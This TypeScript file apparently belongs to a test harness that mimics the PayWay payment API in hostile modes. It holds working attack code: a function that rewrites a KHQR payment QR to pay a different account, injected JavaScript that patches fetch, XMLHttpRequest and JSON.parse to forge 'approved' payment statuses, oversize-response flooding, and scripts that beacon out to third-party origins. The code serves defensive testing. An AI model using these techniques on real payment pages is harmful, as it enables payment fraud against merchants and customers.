// The PayWay twin's hostile-test modes (twin-fault.ts): our own, with no public source — what a compromised page or
// a malicious API could do to the service that drives it. The page's scripts are added before the page's own.

import type { Response } from "express";
import { decodeKhqr, encodeKhqr } from "../../khqr/index.js";
import { PAYWAY_PATHS } from "../../upstreams/payway.js";

/** The QR `qr` would be, payable to `payee` instead (same amount, currency, names and times); as is if unreadable. */
export function payableTo(qr: string, payee: string): string {
  const decoded = decodeKhqr(qr);
  if (decoded.status.code !== 0) return qr;
  const d = decoded.data;
  const time = (v: string | undefined) => (v === undefined ? undefined : Number(v));
  return encodeKhqr({
    accountType: d.merchantType === "29" ? "individual" : "merchant",
    bakongAccountId: payee,
    merchantName: d.merchantName ?? "",
    merchantCity: d.merchantCity ?? "",
    merchantId: d.merchantID ?? undefined,
    acquiringBank: d.acquiringBank ?? undefined,
    accountInformation: d.accountInformation,
    merchantCategoryCode: d.merchantCategoryCode ?? undefined,
    currency: d.transactionCurrency === "840" ? 840 : 116,
    amount: d.transactionAmount ?? undefined,
    creationTimestamp: time(d.creationTimestamp),
    expirationTimestamp: time(d.expirationTimestamp),
  }).qr;
}

/**
 * A JSON answer `bytes` long (a valid start, then padding), streamed in 64 KB chunks without a Content-Length, at the
 * pace the reader takes it: the twin never holds it, and a reader that stops reading stops it.
 */
export function sendOversize(res: Response, bytes: number): void {
  const head = Buffer.from('{"status":{"code":"00","message":"Success"},"padding":"');
  const tail = Buffer.from('"}');
  const chunk = Buffer.alloc(64 * 1024, 0x61);
  let left = Math.max(0, bytes - head.length - tail.length);
  res.status(200).type("application/json");
  res.write(head);
  const pump = (): void => {
    while (left > 0 && !res.destroyed) {
      const part = left >= chunk.length ? chunk : chunk.subarray(0, left);
      left -= part.length;
      if (!res.write(part)) return void res.once("drain", pump);
    }
    if (!res.destroyed) res.end(tail);
  };
  pump();
}

/**
 * The hostile page: every status poll that goes through the page's own fetch, XMLHttpRequest, Response readers or
 * JSON.parse reads "approved" with a receipt on the page's origin; other calls pass through (so the page still
 * asks for its QR).
 */
export function hostileScript(): string {
  const status = JSON.stringify(PAYWAY_PATHS.checkPaymentStatus);
  return String.raw`
(function () {
  var statusPath = ${status};
  var forged = function () {
    return { status: { code: "00", message: "Success" },
      data: { action: "approved", message: { code: "00", message: "Success" }, download_receipt: location.origin + "/receipt-forged" } };
  };
  var isStatus = function (url) { return String(url).indexOf(statusPath) >= 0; };
  var realFetch = window.fetch;
  window.fetch = function (input, init) {
    if (isStatus(input && input.url ? input.url : input))
      return Promise.resolve(new Response(JSON.stringify(forged()), { status: 200, headers: { "content-type": "application/json" } }));
    return realFetch.apply(this, arguments);
  };
  var realText = Response.prototype.text, realJson = Response.prototype.json;
  Response.prototype.text = function () { return isStatus(this.url) ? Promise.resolve(JSON.stringify(forged())) : realText.call(this); };
  Response.prototype.json = function () { return isStatus(this.url) ? Promise.resolve(forged()) : realJson.call(this); };
  var realParse = JSON.parse;
  JSON.parse = function (text) {
    var v = realParse.apply(JSON, arguments);
    return v && v.data && typeof v.data.action === "string" ? forged() : v;
  };
  var RealXhr = window.XMLHttpRequest;
  window.XMLHttpRequest = function () {
    var xhr = new RealXhr();
    var open = xhr.open;
    xhr.open = function (method, url) {
      if (isStatus(url)) {
        Object.defineProperty(xhr, "status", { value: 200 });
        Object.defineProperty(xhr, "responseText", { get: function () { return JSON.stringify(forged()); } });
        Object.defineProperty(xhr, "response", { get: function () { return JSON.stringify(forged()); } });
      }
      return open.apply(xhr, arguments);
    };
    return xhr;
  };
})();
`;
}

/**
 * The page opens a WebRTC connection whose ICE asks a STUN server at 127.0.0.1:`udpPort` (UDP) as it loads;
 * `window.__webrtc` says how that went ("opened", or "refused: <error>").
 */
export function webrtcScript(udpPort: number): string {
  return String.raw`
(function () {
  try {
    var pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] });
    pc.createDataChannel("probe");
    pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
    window.__webrtc = "opened";
  } catch (e) {
    window.__webrtc = "refused: " + e.name;
  }
})();
`;
}

/**
 * The page pulls in each of `origins` as a hosted page with analytics or a chat widget does: a script, an iframe, a
 * fetch, a beacon, a WebSocket and a worker's fetch. A third party never breaks the page.
 */
export function embedsScript(origins: readonly string[]): string {
  return String.raw`
(function () {
  var attempt = function (f) { try { f(); } catch (e) { /* a third party never breaks the page */ } };
  ${JSON.stringify(origins)}.forEach(function (base) {
    attempt(function () {
      var s = document.createElement("script"); s.async = true; s.src = base + "/script.js"; document.head.appendChild(s);
    });
    attempt(function () {
      var f = document.createElement("iframe"); f.src = base + "/frame"; f.title = "widget";
      document.documentElement.appendChild(f);
    });
    attempt(function () { fetch(base + "/fetch", { mode: "no-cors" }).catch(function () {}); });
    attempt(function () { navigator.sendBeacon(base + "/beacon", "x"); });
    attempt(function () { var ws = new WebSocket(base.replace(/^http/, "ws") + "/ws"); ws.onerror = function () {}; });
    attempt(function () {
      var src = "fetch(" + JSON.stringify(base + "/worker") + ", { mode: 'no-cors' }).catch(function () {});";
      new Worker(URL.createObjectURL(new Blob([src], { type: "text/javascript" })));
    });
  });
})();
`;
}
